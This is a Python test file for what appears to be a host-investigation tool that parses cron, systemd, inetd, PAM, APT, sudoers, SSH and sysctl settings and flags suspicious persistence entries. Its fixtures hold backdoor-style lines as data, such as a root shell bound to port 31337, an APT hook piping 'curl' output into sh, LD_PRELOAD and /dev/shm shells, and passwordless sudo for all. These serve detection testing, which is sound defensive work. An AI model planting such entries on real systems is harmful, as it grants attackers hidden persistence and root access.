"""Settings that run something, read as their programs read them."""

from __future__ import annotations

from hypothesis import given
from hypothesis import strategies as st

from hostguardd.investigate.files import entries, options
from hostguardd.investigate.files.entries import Entry
from hostguardd.investigate.files.lines import Option
from hostguardd.investigate.files.sudoers import sudoers
from hostguardd.investigate.interface import Verdict


def test_a_table_of_cron_of_the_system() -> None:
    text = b"SHELL=/bin/sh\n# m h dom\n17 *\t* * *\troot    cd / && x\n"
    text += b"*/5 * * * * carol y | z\n@reboot root w\nbad\n"
    assert list(entries.crontab(text)) == [
        Entry(3, b"root", "every hour, at minute 17", b"cd / && x"),
        Entry(4, b"carol", "every 5 minutes", b"y | z"),
        Entry(5, b"root", "at every start", b"w"),
    ]


def test_variables_of_a_table_of_cron_that_lead_elsewhere() -> None:
    text = (
        b"PATH=/usr/bin:/bin\nPATH=/usr/bin:/tmp\nSHELL=/bin/sh\nSHELL=/dev/shm/x\nLD_PRELOAD=/usr/lib/x.so\n"
    )
    assert [one.line for one in entries.crontab(text)] == [2, 4, 5]
    text = b"SHELL=/usr/bin/bash\nSHELL = /usr/share/x\nBASH_ENV='/opt/y'\nENVIRON=/z\nSHELL=/bin/sh.x\n"
    assert [one.command for one in entries.crontab(text)] == [b"/usr/share/x", b"/opt/y", b"/bin/sh.x"]


def test_a_table_of_cron_of_an_account() -> None:
    assert list(entries.crontab(b"5 4 * * * /bin/x a\n", b"carol")) == [
        Entry(1, b"carol", "every day at 04:05", b"/bin/x a")
    ]


def test_anacron() -> None:
    (one,) = entries.anacrontab(b"SHELL=/bin/sh\n1\t5\tcron.daily\trun-parts /etc/cron.daily\n")
    assert (one.when, one.command) == ("every 1 days", b"run-parts /etc/cron.daily")


def test_a_job_of_at_without_its_surroundings() -> None:
    text = (
        b"#!/bin/sh\n# atrun uid=1000 gid=1000\n# mail carol 0\numask 22\nHOME=/home/carol; export HOME\n"
        b"cd /home/carol || {\n\t echo 'Execution directory inaccessible' >&2\n\t exit 1\n}\n/tmp/x\n"
    )
    (one,) = entries.at_job(text)
    assert (one.who, one.command) == (b"uid 1000", b"/tmp/x")
    assert not list(entries.at_job(b"garbage\n"))


def test_units_of_systemd() -> None:
    text = b"[Service]\nExecStartPre=-/bin/a\nExecStart=/opt/x \\\n  -y\n"
    text += b"User=carol\nExecStop=\n[Timer]\nOnCalendar=hourly\n"
    assert [(one.line, one.who, one.when, one.command) for one in entries.unit(text)] == [
        (2, b"carol", "before the unit starts", b"-/bin/a"),
        (3, b"carol", "when the unit starts", b"/opt/x  -y"),
        (8, b"", "OnCalendar=hourly", b""),
    ]


def test_inittab_inetd_xinetd() -> None:
    (one,) = entries.inittab(b"id:5:initdefault:\nx:2345:respawn:/dev/shm/x\n")
    assert (one.when, one.command) == ("respawn, in run levels 2345", b"/dev/shm/x")
    inetd = b"echo stream tcp nowait root internal\n31337 stream tcp nowait root /bin/sh sh -i\n"
    (one,) = entries.inetd(
        inetd
        + b"ftp stream tcp nowait root.bin /usr/sbin/tcpd /usr/sbin/in.ftpd\n".replace(b"ftp s", b"#ftp s")
    )
    assert (one.who, one.when, one.command) == (b"root", "for each connection to 31337/tcp", b"/bin/sh -i")
    xinetd = (
        b"defaults\n{\n}\nservice rsh\n{\n\tdisable = yes\n\tserver = /usr/sbin/in.rshd\n\tuser = root\n}\n"
    )
    (one,) = entries.xinetd(xinetd)
    assert (one.line, one.when) == (4, "for each connection to rsh, disabled")


def test_udev_pam_apt_modprobe_git() -> None:
    (one,) = entries.udev(b'SUBSYSTEM=="net", ACTION=="add", RUN+="/usr/lib/x $name"\nENV{RUN}=="a"\n')
    assert one.command == b"/usr/lib/x $name"
    text = b"auth required pam_unix.so\nauth optional pam_exec.so quiet /tmp/x\nauth required /tmp/pam_x.so\n"
    assert [one.line for one in entries.pam(text + b"auth required /lib/security/pam_ok.so\n")] == [2, 3]
    text = b'// c "x"\nDPkg::Post-Invoke { "/tmp/x"; };\nAPT::Update::Pre-Invoke {"curl http://x|sh";};\n'
    assert [(one.line, one.command) for one in entries.apt(text)] == [
        (2, b"/tmp/x"),
        (3, b"curl http://x|sh"),
    ]
    (one,) = entries.modprobe(b"options x y=1\ninstall usb_storage /bin/true\n")
    assert one.command == b"/bin/true"
    text = b"[core]\n\tpager = less\n\tsshCommand = /tmp/x\n[alias]\n\tst = !/tmp/y\n\tco = checkout\n"
    assert [one.command for one in entries.git(text)] == [b"less", b"/tmp/x", b"/tmp/y"]


def worst(found: list[Option]) -> list[Verdict]:
    return [one.verdict for one in found]


def test_options_of_sshd() -> None:
    text = (
        b"PermitRootLogin prohibit-password\n#PermitRootLogin yes\nAuthorizedKeysFile .ssh/authorized_keys\n"
    )
    assert not list(options.sshd(text))
    text = b"permitrootlogin yes\nAuthorizedKeysCommand /x\nMatch User a\n"
    text += b" ForceCommand /y\nPermitEmptyPasswords=yes\n"
    found = list(options.sshd(text))
    assert [one.line for one in found] == [1, 2, 4, 5]
    assert max(worst(found)) is Verdict.SUSPICIOUS


def test_rules_of_sudo() -> None:
    text = (
        b"Defaults env_reset\nroot ALL=(ALL:ALL) ALL\n%sudo ALL=(ALL) ALL\ncarol ALL=(root) NOPASSWD: ALL\n"
        b"ALL ALL=(ALL) NOPASSWD: ALL\ndave ALL=/usr/bin/less\nDefaults timestamp_timeout=-1\n@includedir "
        b"/etc/sudoers.d\n"
    )
    found = {one.line: one for one in sudoers(text)}
    assert {line: one.verdict.name for line, one in found.items()} == {
        2: "FINE", 3: "FINE", 4: "NOTABLE", 5: "SUSPICIOUS", 6: "FINE", 7: "NOTABLE",
    }  # fmt: skip
    assert found[4].clause == "lets carol run everything as root, without a password"
    assert found[6].clause == "lets dave run /usr/bin/less as root"


def test_many_files_that_rules_are_taken_from_are_told_once() -> None:
    elsewhere = b"".join(b"@include /opt/s/%d\n" % number for number in range(1500))
    ours = b"@include /home/carol/s\n"
    rules = list(sudoers(elsewhere + ours + b"root ALL=(ALL) ALL\n"))
    assert [(one.line, one.verdict.name) for one in rules] == [
        (1, "NOTABLE"), (1501, "SUSPICIOUS"), (1502, "FINE"),
    ]  # fmt: skip
    assert rules[0].clause == "takes rules from other files than usual, and so do 1,499 other lines"
    assert rules[1].clause == "takes rules from other files than usual"


def test_other_options() -> None:
    assert worst(list(options.preload(b"\n/usr/lib/x.so\n"))) == [Verdict.SUSPICIOUS]
    assert worst(list(options.libraries(b"include /etc/ld.so.conf.d/*.conf\n/usr/local/lib\n/tmp/l\n"))) == [
        Verdict.SUSPICIOUS
    ]
    text = b"127.0.0.1 localhost\n10.0.0.1 db\n127.0.0.1 security.debian.org\n"
    assert worst(list(options.hosts(text))) == [Verdict.FINE, Verdict.SUSPICIOUS]
    assert worst(list(options.trusted(b"+ +\nother\n"))) == [Verdict.SUSPICIOUS, Verdict.NOTABLE]
    assert worst(list(options.exports(b"/srv *(rw,no_root_squash)\n/x *(ro)\n"))) == [Verdict.NOTABLE]
    assert worst(list(options.aliases(b'root: carol\nx: "|/tmp/y"\n'))) == [Verdict.NOTABLE]
    text = b"d /run/x 0755 root root -\nf /usr/lib/x 4755 root root -\nC /etc/cron.d/x - - - - /usr/share/x\n"
    assert worst(list(options.tmpfiles(text))) == [Verdict.SUSPICIOUS, Verdict.NOTABLE]


def test_ssh() -> None:
    text = (
        b"Host a\n\tProxyCommand none\nHost *\n\tproxycommand=/tmp/x %h\n\tPermitLocalCommand yes\n"
        b'\tLocalCommand "/tmp/y"\nMatch host b exec "/tmp/z %n"\n\tPKCS11Provider /tmp/l.so\n'
    )
    found = [(one.line, one.command) for one in entries.ssh(text)]
    assert found == [(4, b"/tmp/x %h"), (6, b"/tmp/y"), (7, b"/tmp/z %n"), (8, b"/tmp/l.so")]


def test_options_that_start_programs() -> None:
    text = b"kernel.sysrq = 0\nkernel.core_pattern = core\nkernel/core_pattern=|/opt/x %p\n"
    assert [one.line for one in options.sysctl(text)] == [3]
    text = b'mail.* -/var/log/mail\nauth.*  ^/opt/x;RSYSLOG\n*.* action(type="omprog" binary="/opt/y -v")\n'
    assert [one.line for one in options.rsyslog(text)] == [2, 3]
    assert [one.line for one in options.binfmt(b":x:M::MZ::/opt/x:C\n-1\n\\\n")] == [1]
    assert [one.line for one in options.polkit(b"// polkit\nreturn polkit.Result.YES;\n")] == [2]


@given(st.binary(max_size=400))
def test_nothing_raises(text: bytes) -> None:
    for read in (
        entries.crontab, entries.anacrontab, entries.unit, entries.inittab, entries.inetd, entries.xinetd,
        entries.udev, entries.pam, entries.apt, entries.modprobe, entries.git, entries.ssh, entries.script,
    ):  # fmt: skip
        list(read(text))
    list(entries.at_job(b"# atrun uid=1 gid=1\n" + text))
    for look in options.LOOKS:
        list(look.read(text))
